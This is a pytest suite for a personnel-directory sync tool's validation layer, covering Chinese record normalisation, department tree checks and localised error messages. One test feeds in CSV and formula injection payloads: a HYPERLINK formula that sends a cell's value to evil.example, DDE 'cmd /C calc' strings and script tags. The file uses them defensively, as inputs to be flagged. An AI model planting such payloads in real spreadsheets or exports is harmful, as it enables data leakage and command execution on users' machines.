"""Normalisation and validation: every rejected record names its field and reason."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from syncd.domain.model import PersonStatus
from syncd.domain.source import RawRecord, SourceError
from syncd.domain.validate import CodeTables, build_snapshot, normalise_mobile, normalise_text
from syncd.reporting import messages
from syncd.reporting.messages import problem_text

CODES = CodeTables.load()


class ListSource:
    """A source over in-memory records (the edge is faked, validation is real)."""

    def __init__(self, departments: list[dict[str, str]], people: list[dict[str, str]], break_after: int = -1):
        self._departments = departments
        self._people = people
        self._break_after = break_after

    def departments(self) -> Iterator[RawRecord]:
        for i, fields in enumerate(self._departments, start=2):
            yield RawRecord(fields, "departments.csv", i)

    def people(self) -> Iterator[RawRecord]:
        for i, fields in enumerate(self._people, start=2):
            if i - 2 == self._break_after:
                raise SourceError("connection reset")
            yield RawRecord(fields, "people.csv", i)


DEPTS = [{"id": "D1", "name": "市审计局"}, {"id": "D2", "name": "办公室", "parent": "D1"}]


COMPLETE = {"gender": "男", "establishment": "行政编制", "rank": "一级科员", "political_status": "群众",
            "role": "普通人员", "post": "科员", "post_level": "科员级", "office_phone": "0371-67180000"}


def good(employee_id: str = "A1", **extra: str) -> dict[str, str]:
    mobile = f"138{int(employee_id[1:]):08d}"
    return {"employee_id": employee_id, "name": "张明", "mobile": mobile, "department": "D2", **COMPLETE, **extra}


def test_full_width_digits_and_letters_become_ascii_but_chinese_punctuation_stays() -> None:
    assert normalise_text("  Ａ０１２３ 审计处（机关）\u3000") == "A0123 审计处（机关）"


@pytest.mark.parametrize("raw", ["+86 138-0000-0001", "0086 13800000001", "138 0000 0001", "１３８００００００01"])
def test_mobile_prefixes_spaces_and_dashes_are_removed(raw: str) -> None:
    assert normalise_mobile(raw) == "13800000001"


def test_labels_are_mapped_to_national_codes() -> None:
    snapshot = build_snapshot(ListSource(DEPTS, [good(gender="女", political_status="中共党员")]), "D1", CODES)
    person = snapshot.people["A1"]
    assert (person.gender, person.political_status) == ("2", "01")


@pytest.mark.parametrize(("fields", "field", "reason"), [
    ({"name": ""}, "name", "missing"),
    ({"name": "张" * 81}, "name", "80"),
    ({"status": "在岗"}, "status", "not a known status"),
    ({"order": "first"}, "order", "whole number"),
    ({"department": "D9"}, "department", "unknown department"),
])
def test_a_bad_person_is_rejected_with_line_field_and_reason_and_the_rest_is_kept(
        fields: dict[str, str], field: str, reason: str) -> None:
    snapshot = build_snapshot(ListSource(DEPTS, [good("A1"), good("A2", **fields)]), "D1", CODES)
    assert list(snapshot.people) == ["A1"]
    [rejection] = snapshot.rejections
    assert (rejection.key, rejection.field, rejection.location()) == ("A2", field, "people.csv:3")
    assert reason in rejection.reason


def test_a_minority_name_with_middle_dot_is_accepted() -> None:
    snapshot = build_snapshot(ListSource(DEPTS, [good(name="阿依古丽·买买提")]), "D1", CODES)
    assert snapshot.people["A1"].name == "阿依古丽·买买提"


def test_a_duplicated_employee_id_rejects_every_row_carrying_it() -> None:
    snapshot = build_snapshot(ListSource(DEPTS, [good("A1"), good("A1"), good("A2")]), "D1", CODES)
    assert list(snapshot.people) == ["A2"]
    assert [(r.key, r.field, r.line) for r in snapshot.rejections] == [("A1", "employee_id", 2),
                                                                         ("A1", "employee_id", 3)]


def test_empty_status_means_in_post() -> None:
    snapshot = build_snapshot(ListSource(DEPTS, [good(status="")]), "D1", CODES)
    assert snapshot.people["A1"].status is PersonStatus.IN_POST


def test_department_cycles_and_unknown_parents_are_rejected_with_the_path() -> None:
    departments = [*DEPTS, {"id": "D3", "name": "甲", "parent": "D4"}, {"id": "D4", "name": "乙", "parent": "D3"},
                   {"id": "D5", "name": "丙", "parent": "D9"}, {"id": "D6", "name": "丁", "parent": "D5"}]
    snapshot = build_snapshot(ListSource(departments, []), "D1", CODES)
    assert set(snapshot.departments) == {"D1", "D2"}
    reasons = {r.key: r.reason for r in snapshot.rejections}
    assert "cycle" in reasons["D3"] and "D3 → D4 → D3" in reasons["D3"]
    assert "unknown parent department 'D9'" in reasons["D5"]
    assert "D5" in reasons["D6"]


def test_a_read_that_breaks_off_is_incomplete() -> None:
    snapshot = build_snapshot(ListSource(DEPTS, [good("A1"), good("A2")], break_after=1), "D1", CODES)
    assert snapshot.complete is False
    assert snapshot.rejections[-1].kind == "source"


@pytest.mark.parametrize(("fields", "field", "problem", "reason"), [
    ({"mobile": "1380000abcd"}, "mobile", "invalid", "11-digit"),
    ({"mobile": ""}, "mobile", "missing", "login account"),
    ({"gender": "张明"}, "gender", "invalid", "not a known label"),
    ({"political_status": "党员?"}, "political_status", "invalid", "not a known label"),
    ({"post": "长" * 65}, "post", "invalid", "64"),
    ({"rank": ""}, "rank", "missing", "missing"),
    ({"role": "领导", "leader_duties": ""}, "leader_duties", "missing", "missing"),
])
def test_a_bad_article9_field_is_left_out_and_reported_while_the_person_stays(
        fields: dict[str, str], field: str, problem: str, reason: str) -> None:
    snapshot = build_snapshot(ListSource(DEPTS, [good("A1"), good("A2", **fields)]), "D1", CODES)
    assert set(snapshot.people) == {"A1", "A2"} and snapshot.rejections == []
    [issue] = snapshot.issues
    assert (issue.key, issue.field, issue.problem, issue.location()) == ("A2", field, problem, "people.csv:3")
    assert reason in issue.reason
    assert field not in snapshot.people["A2"].pushed_fields()


def test_a_person_without_a_valid_mobile_cannot_be_created() -> None:
    snapshot = build_snapshot(ListSource(DEPTS, [good("A1", mobile="12345")]), "D1", CODES)
    assert snapshot.people["A1"].creatable is False


def test_leader_duties_are_not_required_of_others() -> None:
    snapshot = build_snapshot(ListSource(DEPTS, [good("A1", leader_duties="")]), "D1", CODES)
    assert snapshot.issues == []


def test_a_mobile_shared_by_two_in_post_people_flags_both_and_creates_neither() -> None:
    people = [good("A1", mobile="13800000009"), good("A2", mobile="138 0000 0009"), good("A3")]
    snapshot = build_snapshot(ListSource(DEPTS, people), "D1", CODES)
    flagged = {(i.key, i.field) for i in snapshot.issues}
    assert flagged == {("A1", "mobile"), ("A2", "mobile")}
    assert [p.creatable for p in snapshot.people.values()] == [False, False, True]


def test_a_reason_never_repeats_the_bad_value() -> None:
    """Reasons reach logs; a shifted column would otherwise put a name there."""
    snapshot = build_snapshot(ListSource(DEPTS, [good("A1", gender="张明", status="在职", order="王芳")]), "D1", CODES)
    assert all("张明" not in r.reason and "王芳" not in r.reason for r in [*snapshot.rejections, *snapshot.issues])


@pytest.mark.parametrize(("fields", "code", "chinese"), [
    ({"name": ""}, "name.missing", "缺少姓名"),
    ({"name": "张" * 81}, "name.too_long", "姓名超过80个字符"),
    ({"status": "在岗"}, "status.unknown", "人员状态不是已知的值，应为：在职、调离、退休、离职、死亡"),
    ({"order": "first"}, "order.not_integer", "排序不是整数"),
    ({"department": "D9"}, "department.unknown", "部门编号 D9 不存在（部门表中没有，或该部门被拒绝）"),
])
def test_a_rejection_carries_a_stable_code_that_reads_in_chinese(fields: dict[str, str], code: str,
                                                                  chinese: str) -> None:
    snapshot = build_snapshot(ListSource(DEPTS, [good("A1"), good("A2", **fields)]), "D1", CODES)
    [rejection] = snapshot.rejections
    assert rejection.code == code
    assert problem_text(rejection) == chinese


@pytest.mark.parametrize(("fields", "code", "chinese"), [
    ({"mobile": "1380000abcd"}, "mobile.invalid", "手机号不是11位大陆手机号"),
    ({"mobile": ""}, "mobile.missing", "缺少手机号（手机号是登录账号，缺少则无法在通讯录中创建）"),
    ({"gender": "张明"}, "gender.unknown",
     "性别不是已知的值，应为：女、女性、未知的性别、未说明、未说明的性别、男、男性"),
    ({"post": "长" * 65}, "post.too_long", "职务超过64个字符"),
    ({"rank": ""}, "rank.missing", "缺少职级"),
    ({"role": "领导", "leader_duties": ""}, "leader_duties.missing", "缺少领导分工（人员角色为领导时必填）"),
])
def test_an_incomplete_field_carries_a_stable_code_that_reads_in_chinese(fields: dict[str, str], code: str,
                                                                          chinese: str) -> None:
    snapshot = build_snapshot(ListSource(DEPTS, [good("A2", **fields)]), "D1", CODES)
    [issue] = snapshot.issues
    assert (issue.code, problem_text(issue)) == (code, chinese)


def test_tree_duplicate_and_shared_mobile_problems_carry_codes_with_their_ids() -> None:
    departments = [*DEPTS, {"id": "D3", "name": "甲", "parent": "D4"}, {"id": "D4", "name": "乙", "parent": "D3"},
                   {"id": "D5", "name": "丙", "parent": "D9"}, {"id": "D6", "name": "丁", "parent": "D5"},
                   {"id": "D7", "name": "戊"}]
    people = [good("A1", mobile="13800000009"), good("A2", mobile="13800000009"), good("A3"), good("A3")]
    snapshot = build_snapshot(ListSource(departments, people), "D1", CODES)
    texts = {(r.key, r.code): problem_text(r) for r in snapshot.rejections}
    assert texts[("D3", "parent.cycle")] == "上级部门形成循环：D3 → D4 → D3"
    assert texts[("D5", "parent.unknown")] == "上级部门 D9 不存在（路径：D5 → D9）"
    assert texts[("D6", "parent.rejected")] == "位于被拒绝的部门 D5 之下"
    assert texts[("D7", "parent.missing")] == "没有上级部门，且不是本单位的根部门 D1"
    assert texts[("A3", "employee_id.duplicate")] == "工号 A3 出现 2 次，所有重复记录均被拒绝"
    shared = {i.key: problem_text(i) for i in snapshot.issues if i.code == "mobile.shared"}
    assert shared == {"A1": "与 A2 的手机号相同，人事部门更正前两人都不会被创建或关联",
                      "A2": "与 A1 的手机号相同，人事部门更正前两人都不会被创建或关联"}


def test_the_english_reason_stays_for_the_logs() -> None:
    snapshot = build_snapshot(ListSource(DEPTS, [good("A1", mobile="12345")]), "D1", CODES)
    [issue] = snapshot.issues
    assert issue.reason.startswith("not an 11-digit mainland mobile number") and issue.code == "mobile.invalid"


HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击修正")'


@pytest.mark.parametrize(("fields", "field"), [
    ({"post": HYPERLINK}, "post"),
    ({"post": "@SUM(1+1)*cmd|' /C calc'!A0"}, "post"),
    ({"leader_duties": "+HYPERLINK(\"http://evil.example\")", "role": "领导"}, "leader_duties"),
    ({"rank": "-2+3+cmd|' /C calc'!A0"}, "rank"),
    ({"office_phone": '<a href="http://evil.example">电话</a>'}, "office_phone"),
    ({"post_level": "<script>alert(1)</script>"}, "post_level"),
])
def test_markup_or_a_formula_in_an_article9_field_is_left_out_and_reported(fields: dict[str, str], field: str) -> None:
    snapshot = build_snapshot(ListSource(DEPTS, [good("A1", **fields)]), "D1", CODES)
    [issue] = snapshot.issues
    assert (issue.field, issue.problem, issue.code) == (field, "invalid", f"{field}.unsafe")
    assert problem_text(issue).startswith(f"{messages.field_label(field)}含有网页标记或表格公式")
    assert field not in snapshot.people["A1"].pushed_fields()


def test_a_name_holding_a_formula_is_reported_and_still_the_persons_name() -> None:
    snapshot = build_snapshot(ListSource(DEPTS, [good("A1", name=HYPERLINK)]), "D1", CODES)
    [issue] = snapshot.issues
    assert (issue.field, issue.code) == ("name", "name.unsafe")
    assert snapshot.people["A1"].name == HYPERLINK and "name" not in snapshot.people["A1"].invalid


def test_a_department_named_with_a_formula_or_markup_is_rejected_with_what_is_under_it_and_nobody_leaves() -> None:
    departments = [{"id": "D1", "name": "<b>市审计局</b>"}, {"id": "D2", "name": "办公室", "parent": "D1"},
                   {"id": "D4", "name": "二科", "parent": "D3"}, {"id": "D3", "name": HYPERLINK, "parent": "D1"},
                   {"id": "D5", "name": "信息中心", "short_name": "<script>alert(1)</script>", "parent": "D1"}]
    people = [good("A1"), good("A3", department="D3"), good("A4", department="D4")]
    snapshot = build_snapshot(ListSource(departments, people), "D1", CODES)
    texts = {(r.key, r.field, r.code): problem_text(r) for r in snapshot.rejections}
    assert texts == {
        ("D3", "name", "name.unsafe"): "部门名称含有网页标记或表格公式（如 <…> 或以 = @ 开头），请改为纯文本",
        ("D4", "parent", "parent.rejected"): "位于被拒绝的部门 D3 之下",
        ("D5", "short_name", "short_name.unsafe"): "简称含有网页标记或表格公式（如 <…> 或以 = @ 开头），请改为纯文本",
        ("A3", "department", "department.unknown"): "部门编号 D3 不存在（部门表中没有，或该部门被拒绝）",
        ("A4", "department", "department.unknown"): "部门编号 D4 不存在（部门表中没有，或该部门被拒绝）",
    }
    # The root is the unit's own organisation, which syncd never writes: its name is not a reason to stop.
    assert set(snapshot.departments) == {"D1", "D2"} and snapshot.complete
    assert set(snapshot.people) == {"A1"}


@pytest.mark.parametrize("fields", [
    {"office_phone": "+86 371 6718 0000"}, {"office_phone": "-"}, {"mobile": "+86 138 0000 0001"},
    {"name": "<无名氏>"}, {"post": "副处长（主持工作）"}, {"post": "a < b"}, {"name": "阿卜杜拉·买买提"},
])
def test_ordinary_values_that_start_with_a_sign_or_hold_brackets_are_not_flagged(fields: dict[str, str]) -> None:
    assert build_snapshot(ListSource(DEPTS, [good("A1", **fields)]), "D1", CODES).issues == []
